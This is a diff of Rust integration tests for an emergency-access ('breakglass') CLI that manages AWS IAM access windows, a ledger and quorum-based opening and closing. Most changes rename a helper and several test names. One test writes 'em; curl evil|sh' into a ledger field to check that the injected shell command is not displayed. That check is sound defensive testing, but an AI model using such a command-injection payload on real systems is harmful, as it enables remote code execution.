@@ -8,7 +8,7 @@ use serde_json::Value;
 
 use crate::two_of_two;
 
-fn told(mut command: Command) -> (Option<i32>, Value, String) {
+fn output_of(mut command: Command) -> (Option<i32>, Value, String) {
     let Output { status, stdout, stderr } = command.output().unwrap();
     let stdout = String::from_utf8(stdout).unwrap();
     let json = serde_json::from_str(&stdout).unwrap_or(Value::Null);
@@ -16,11 +16,11 @@ fn told(mut command: Command) -> (Option<i32>, Value, String) {
 }
 
 #[test]
-fn before_any_window_there_is_none() {
+fn before_the_first_window_status_shows_none() {
     let vault = two_of_two("never").all_plugged();
-    let (code, _, said) = told(vault.site.command(&["status"]));
+    let (code, _, said) = output_of(vault.site.command(&["status"]));
     assert!(code == Some(0) && said.contains("no window was ever opened"), "{said}");
-    let (code, json, _) = told(vault.site.command(&["status", "prod.age", "--json"]));
+    let (code, json, _) = output_of(vault.site.command(&["status", "prod.age", "--json"]));
     assert_eq!(code, Some(0));
     assert_eq!((&json["event"], &json["may_be_open"]), (&"status".into(), &false.into()), "{json}");
     assert_eq!(json["targets"][0]["state"], "closed", "{json}");
@@ -31,7 +31,7 @@ fn the_ledger_knows_a_killed_run_and_its_end() {
     let vault = two_of_two("killed-status").all_plugged();
     let (site, account) = (&vault.site, &vault.account);
     let mut person = vault.open("5m").again("more").hold().until_open();
-    let (code, json, said) = told(site.command(&["status", "prod.age", "--json"]));
+    let (code, json, said) = output_of(site.command(&["status", "prod.age", "--json"]));
     assert_eq!(code, Some(10), "{said}");
     let target = &json["targets"][0];
     assert_eq!((&target["state"], &target["own"]), (&"open".into(), &true.into()), "{json}");
@@ -40,7 +40,7 @@ fn the_ledger_knows_a_killed_run_and_its_end() {
     assert!(gate.contains(&until), "{until} is the gate's own end: {gate}");
     person.send_signal(Signal::SIGKILL);
     person.wait();
-    let (code, _, said) = told(site.command(&["status"]));
+    let (code, _, said) = output_of(site.command(&["status"]));
     assert_eq!(code, Some(10), "{said}");
     for part in ["MAY BE OPEN until", "breakglass close", "aws iam attach-user-policy"] {
         assert!(said.contains(part), "{part}: {said}");
@@ -48,18 +48,18 @@ fn the_ledger_knows_a_killed_run_and_its_end() {
     let mut person = site.person(&["close", "prod.age"]);
     site.quorum(&mut person, 2);
     assert_eq!(person.wait(), End::Code(0), "{}", person.transcript());
-    let (code, _, said) = told(site.command(&["status"]));
+    let (code, _, said) = output_of(site.command(&["status"]));
     assert_eq!(code, Some(0), "nothing is open: {said}");
-    let (code, json, said) = told(site.command(&["status", "prod.age", "--json"]));
+    let (code, json, said) = output_of(site.command(&["status", "prod.age", "--json"]));
     assert_eq!(code, Some(1), "but its credentials are to be rotated: {said}");
     assert_eq!(json["may_be_open"], false);
     assert!(json["upkeep"]["overdue"][0].as_str().unwrap().contains("rotate"), "{json}");
-    let (_, _, said) = told(site.command(&["status", "prod.age"]));
+    let (_, _, said) = output_of(site.command(&["status", "prod.age"]));
     assert!(said.contains("SPENT by session") && said.contains("OVERDUE      rotate"), "{said}");
 }
 
 #[test]
-fn another_machines_open_window_counts_and_a_ledger_that_is_missing_is_not_all_well() {
+fn another_machines_open_window_counts_and_a_missing_ledger_is_an_error() {
     let vault = two_of_two("others-ledger").all_plugged();
     let site = &vault.site;
     let other = site.path("other");
@@ -69,18 +69,18 @@ fn another_machines_open_window_counts_and_a_ledger_that_is_missing_is_not_all_w
     let mut person = Person::run(command);
     site.quorum(&mut person, 2);
     person.expect("left");
-    let (code, json, _) = told(site.command(&["status", "prod.age", "--json"]));
+    let (code, json, _) = output_of(site.command(&["status", "prod.age", "--json"]));
     assert_eq!((code, &json["may_be_open"]), (Some(0), &false.into()), "this machine knows of none: {json}");
     site.configure(&serde_json::json!({"ledgers": [other.join("ledger.jsonl")]}));
     for arguments in [&["status", "prod.age", "--json"][..], &["status", "--json"]] {
-        let (code, json, said) = told(site.command(arguments));
+        let (code, json, said) = output_of(site.command(arguments));
         assert_eq!(code, Some(10), "{said}");
         let target = &json["targets"][0];
         assert_eq!((&target["state"], &target["own"]), (&"open".into(), &false.into()), "{json}");
     }
     person.type_raw(b"q");
     assert_eq!(person.wait(), End::Code(0), "{}", person.transcript());
-    let (code, json, _) = told(site.command(&["status", "prod.age", "--json"]));
+    let (code, json, _) = output_of(site.command(&["status", "prod.age", "--json"]));
     assert_eq!(code, Some(1), "{json}");
     assert!(json["upkeep"]["spent"].is_object(), "what another machine has opened is spent: {json}");
     // And opening it here takes a reason.
@@ -90,15 +90,15 @@ fn another_machines_open_window_counts_and_a_ledger_that_is_missing_is_not_all_w
     assert!(String::from_utf8_lossy(&refused.stderr).contains("are spent"));
 
     site.configure(&serde_json::json!({"ledgers": [site.path("gone.jsonl")]}));
-    let (code, json, said) = told(site.command(&["status", "prod.age", "--json"]));
+    let (code, json, said) = output_of(site.command(&["status", "prod.age", "--json"]));
     assert!(code != Some(0) && said.contains("gone.jsonl"), "{json} {said}");
     std::fs::write(site.path(".config/breakglass/config.json"), "garbage").unwrap();
-    let (code, _, said) = told(site.command(&["status", "prod.age"]));
+    let (code, _, said) = output_of(site.command(&["status", "prod.age"]));
     assert!(code != Some(0) && said.contains("config.json"), "{said}");
 }
 
 #[test]
-fn a_ledger_says_nothing_that_a_shell_would_do() {
+fn a_hostile_ledger_cannot_put_shell_commands_on_the_screen() {
     let vault = two_of_two("hostile-ledger").all_plugged();
     let site = &vault.site;
     let mut person = vault.open("5m").again("more").hold().until_open();
@@ -107,12 +107,12 @@ fn a_ledger_says_nothing_that_a_shell_would_do() {
     let ledger = site.path("state/ledger.jsonl");
     let text = std::fs::read_to_string(&ledger).unwrap();
     std::fs::write(&ledger, text.replace("\"user\":\"emergency\"", "\"user\":\"em; curl evil|sh\"")).unwrap();
-    let (code, _, said) = told(site.command(&["status"]));
+    let (code, _, said) = output_of(site.command(&["status"]));
     assert!(code == Some(6) && !said.contains("curl"), "{said}");
 }
 
 #[test]
-fn shares_given_in_vain_are_counted() {
+fn shares_given_without_an_opening_are_counted() {
     let vault = two_of_two("in-vain").all_plugged();
     let vain = || {
         let arguments = ["open", "prod.age", "--for", "5m", "--reason", "x", "--wait", "3s", "--hold"];
@@ -123,17 +123,17 @@ fn shares_given_in_vain_are_counted() {
     vault.site.pull("bob");
     vain();
     vain();
-    let (code, json, said) = told(vault.site.command(&["status", "prod.age", "--json"]));
+    let (code, json, said) = output_of(vault.site.command(&["status", "prod.age", "--json"]));
     assert_eq!(code, Some(0), "{said}");
     assert_eq!((&json["upkeep"]["released"], &json["upkeep"]["spent"]), (&2.into(), &Value::Null), "{json}");
     let proofs = &json["upkeep"]["custodians"];
     assert!(proofs[0]["last"].is_string() && proofs[1]["last"].is_null(), "{json}");
-    let (_, _, said) = told(vault.site.command(&["status", "prod.age"]));
+    let (_, _, said) = output_of(vault.site.command(&["status", "prod.age"]));
     assert!(said.contains("came to nothing: 2") && said.contains("bob never"), "{said}");
 }
 
 #[test]
-fn a_second_opening_that_was_refused_does_not_hide_the_first() {
+fn a_refused_second_opening_does_not_hide_the_first() {
     let vault = two_of_two("hidden").all_plugged();
     let (site, account) = (&vault.site, &vault.account);
     let mut person = vault.open("5m").again("more").hold().until_open();
@@ -141,7 +141,7 @@ fn a_second_opening_that_was_refused_does_not_hide_the_first() {
     person.wait();
     let mut person = vault.open("1m").again("more").hold().by_quorum();
     assert_eq!(person.wait(), End::Code(5), "{}", person.transcript());
-    let (code, json, said) = told(site.command(&["status", "--json"]));
+    let (code, json, said) = output_of(site.command(&["status", "--json"]));
     assert_eq!(code, Some(10), "{said}");
     assert_eq!(json["targets"][0]["state"], "open", "{json}");
     let asked = site.with_profile(
@@ -149,11 +149,11 @@ fn a_second_opening_that_was_refused_does_not_hide_the_first() {
         &account.closer,
         &["status", "prod.age", "--profile", "oncall", "--json"],
     );
-    let (code, json, said) = told(asked);
+    let (code, json, said) = output_of(asked);
     assert!(code == Some(10) && json["targets"][0]["own"] == true, "it is this machine's own: {said}");
     let close = site.with_profile("oncall", &account.closer, &["close", "prod.age", "--profile", "oncall"]);
-    assert_eq!(told(close).0, Some(0));
-    let (code, _, said) = told(site.command(&["status"]));
+    assert_eq!(output_of(close).0, Some(0));
+    let (code, _, said) = output_of(site.command(&["status"]));
     assert_eq!(code, Some(0), "{said}");
 }
 
@@ -165,12 +165,12 @@ fn a_dead_laptops_window_is_found_in_iam() {
     person.send_signal(Signal::SIGKILL);
     person.wait();
     std::fs::remove_dir_all(site.path("state")).unwrap();
-    let (code, _, said) = told(site.command(&["status", "prod.age"]));
+    let (code, _, said) = output_of(site.command(&["status", "prod.age"]));
     assert_eq!(code, Some(0), "this machine's ledger is gone: {said}");
     assert!(said.contains("IAM was not asked"), "{said}");
     let ask = |json: &[&str]| {
         let arguments = [&["status", "prod.age", "--profile", "oncall"], json].concat();
-        told(site.with_profile("oncall", &account.closer, &arguments))
+        output_of(site.with_profile("oncall", &account.closer, &arguments))
     };
     let (code, json, said) = ask(&["--json"]);
     assert_eq!(code, Some(10), "{said}");
@@ -183,39 +183,39 @@ fn a_dead_laptops_window_is_found_in_iam() {
 }
 
 #[test]
-fn what_was_not_tidied_up_after_t1_is_said_and_is_not_open() {
+fn an_untidy_end_is_reported_as_not_open() {
     let vault = two_of_two("untidy").all_plugged();
     let (site, account) = (&vault.site, &vault.account);
     let now = account.now();
     account.put_window("Sfeedfacefeedface", now - 600, now - 60);
     let arguments = ["status", "prod.age", "--profile", "oncall"];
-    let (code, _, said) = told(site.with_profile("oncall", &account.closer, &arguments));
+    let (code, _, said) = output_of(site.with_profile("oncall", &account.closer, &arguments));
     assert!(code == Some(1) && said.contains("not at rest"), "{said}");
-    // A gate without an end is none of ours, and nobody knows until when it holds.
+    // A gate without an end is not ours, and its end is unknown.
     let anything = serde_json::json!({"Version": "2012-10-17", "Statement": [
         {"Sid": "All", "Effect": "Allow", "Action": "s3:*", "Resource": "*"}]});
     let gate = serde_json::json!({"UserName": account.user, "PolicyName": rig::aws::GATE,
         "PolicyDocument": anything.to_string()});
     account.root("put_user_policy", gate);
-    let (code, _, said) = told(site.with_profile("oncall", &account.closer, &arguments));
+    let (code, _, said) = output_of(site.with_profile("oncall", &account.closer, &arguments));
     assert!(code == Some(10) && said.contains("MAY BE OPEN"), "{said}");
 }
 
 #[test]
-fn a_profile_of_another_account_or_of_none_says_so() {
+fn a_profile_of_another_account_or_an_unknown_profile_is_an_error() {
     let vault = two_of_two("other-profile").all_plugged();
     let (aws, site) = (&vault.aws, &vault.site);
     let other: Account = aws.seed("other");
     let arguments = ["status", "prod.age", "--profile", "oncall"];
-    let (code, _, said) = told(site.with_profile("oncall", &other.closer, &arguments));
+    let (code, _, said) = output_of(site.with_profile("oncall", &other.closer, &arguments));
     assert!(code == Some(5) && said.contains(&other.id), "{said}");
     let arguments = ["status", "prod.age", "--profile", "nobody"];
-    let (code, _, said) = told(site.with_profile("oncall", &other.closer, &arguments));
+    let (code, _, said) = output_of(site.with_profile("oncall", &other.closer, &arguments));
     assert!(code == Some(2) && said.contains("profile nobody"), "{said}");
 }
 
 #[test]
-fn ledger_and_iam_stand_in_for_each_other() {
+fn ledger_and_iam_can_substitute_for_each_other() {
     let vault = two_of_two("stand-in").all_plugged();
     let (site, account) = (&vault.site, &vault.account);
     let mut person = vault.open("5m").again("more").hold().until_open();
@@ -224,22 +224,22 @@ fn ledger_and_iam_stand_in_for_each_other() {
     let ask = || site.with_profile("oncall", &account.closer, &["status", "prod.age", "--profile", "oncall"]);
     let mut alone = ask();
     alone.env("AWS_ENDPOINT_URL", "http://127.0.0.1:9");
-    let (code, _, said) = told(alone);
+    let (code, _, said) = output_of(alone);
     assert!(code == Some(10) && said.contains("was not reached") && said.contains("does not tell"), "{said}");
     let ledger = site.path("state/ledger.jsonl");
     let text = std::fs::read_to_string(&ledger).unwrap();
     std::fs::write(&ledger, text.replacen("INC-1", "INC-2", 1)).unwrap();
-    let (code, _, said) = told(ask());
+    let (code, _, said) = output_of(ask());
     assert!(code == Some(10) && said.contains("does not chain") && said.contains("IAM says so"), "{said}");
     account.put_to_rest();
-    let (code, _, said) = told(ask());
+    let (code, _, said) = output_of(ask());
     assert!(code == Some(6), "the ledger is damaged all the same: {said}");
-    let (code, _, said) = told(site.command(&["status"]));
+    let (code, _, said) = output_of(site.command(&["status"]));
     assert!(code == Some(6) && !said.contains("ever opened"), "{said}");
 }
 
 #[test]
-fn what_standard_output_does_not_take_is_no_success() {
+fn a_failed_write_to_standard_output_is_an_error() {
     let vault = two_of_two("full").all_plugged();
     let mut command = vault.site.command(&["status", "prod.age", "--json"]);
     command.stdout(std::fs::File::options().write(true).open("/dev/full").unwrap());
@@ -247,7 +247,7 @@ fn what_standard_output_does_not_take_is_no_success() {
 }
 
 #[test]
-fn longer_than_planned_is_closed_and_opened_again_with_the_reason_on_record() {
+fn opening_again_records_its_reason() {
     let vault = two_of_two("again").all_plugged();
     let (site, account) = (&vault.site, &vault.account);
     let mut person = vault.open("5m").again("more").hold().until_open();
